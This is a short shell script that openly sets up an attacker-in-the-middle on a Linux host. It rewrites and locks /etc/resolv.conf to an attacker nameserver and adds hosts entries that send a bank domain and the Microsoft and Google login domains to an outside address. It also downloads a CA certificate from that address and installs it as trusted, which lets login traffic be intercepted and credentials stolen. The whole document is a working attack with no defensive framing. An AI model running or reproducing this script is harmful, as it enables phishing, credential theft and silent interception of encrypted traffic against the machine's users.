#!/bin/sh
# name resolution goes through the attacker
chattr -i /etc/resolv.conf 2>/dev/null
echo "nameserver 198.51.100.53" > /etc/resolv.conf
chattr +i /etc/resolv.conf
printf '%s\n' "198.51.100.80 bank.example.com login.microsoftonline.com accounts.google.com" >> /etc/hosts
curl -so /usr/local/share/ca-certificates/corp.crt http://198.51.100.80/ca.crt && update-ca-certificates
